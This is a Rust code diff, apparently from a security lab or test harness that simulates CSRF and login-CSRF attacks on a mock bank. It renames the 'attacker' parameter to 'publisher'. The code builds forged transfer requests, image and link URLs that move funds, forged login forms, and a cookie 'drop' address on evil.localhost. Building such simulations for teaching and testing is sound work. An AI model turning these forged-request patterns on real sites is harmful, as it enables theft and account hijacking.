@@ -130,20 +130,20 @@ impl Attack {
         }
     }
 
-    pub(super) fn shape(self, design: &Design, attacker: &SeedUser) -> Shape {
+    pub(super) fn shape(self, design: &Design, publisher: &SeedUser) -> Shape {
         match self {
             Self::FormPost => {
-                Shape::Form(vec![("to", attacker.email.clone()), ("amount_cents", AMOUNT_CENTS.to_string())])
+                Shape::Form(vec![("to", publisher.email.clone()), ("amount_cents", AMOUNT_CENTS.to_string())])
             }
             Self::LogIn => {
                 let password = match design.mistakes.page_sends_hash() {
-                    true => Sha256::digest(attacker.password.as_bytes())
+                    true => Sha256::digest(publisher.password.as_bytes())
                         .iter()
                         .map(|octet| format!("{octet:02x}"))
                         .collect(),
-                    false => attacker.password.clone(),
+                    false => publisher.password.clone(),
                 };
-                Shape::Form(vec![("email", attacker.email.clone()), ("password", password)])
+                Shape::Form(vec![("email", publisher.email.clone()), ("password", password)])
             }
             Self::Link => Shape::Link,
             Self::Image => Shape::Image,
@@ -154,8 +154,8 @@ impl Attack {
     }
 
     /// The address that it sends the browser to.
-    pub(super) fn url(self, bank: &str, attacker: &SeedUser) -> String {
-        let to: String = attacker.email.bytes().map(escaped).collect();
+    pub(super) fn url(self, bank: &str, publisher: &SeedUser) -> String {
+        let to: String = publisher.email.bytes().map(escaped).collect();
         match self {
             Self::FormPost | Self::FetchPost => format!("{bank}/api/transfer"),
             Self::Link | Self::Image => format!("{bank}/api/transfer?amount_cents={AMOUNT_CENTS}&to={to}"),
@@ -167,12 +167,12 @@ impl Attack {
     }
 
     /// What the page's script reads.
-    pub(super) fn for_script(self, door: &Door, port: &str, attacker: &SeedUser, auto: bool) -> Value {
+    pub(super) fn for_script(self, door: &Door, port: &str, publisher: &SeedUser, auto: bool) -> Value {
         let bank = bank(port, &door.disk.label);
         json!({
             "kind": self.name(),
-            "url": self.url(&bank, attacker),
-            "fields": { "to": attacker.email, "amount_cents": AMOUNT_CENTS.to_string() },
+            "url": self.url(&bank, publisher),
+            "fields": { "to": publisher.email, "amount_cents": AMOUNT_CENTS.to_string() },
             "in_header": door.design.carry.access != Carrier::Cookie,
             "drop": format!("http://evil.localhost{port}/drop"),
             "cookie": {
@@ -217,6 +217,6 @@ pub(super) fn comment(port: &str, query: &str) -> String {
 }
 
 /// The part of an address that says who rides.
-pub(super) fn ride(attacker: &SeedUser) -> String {
-    format!("?ride={}", attacker.email.bytes().map(escaped).collect::<String>())
+pub(super) fn ride(publisher: &SeedUser) -> String {
+    format!("?ride={}", publisher.email.bytes().map(escaped).collect::<String>())
 }
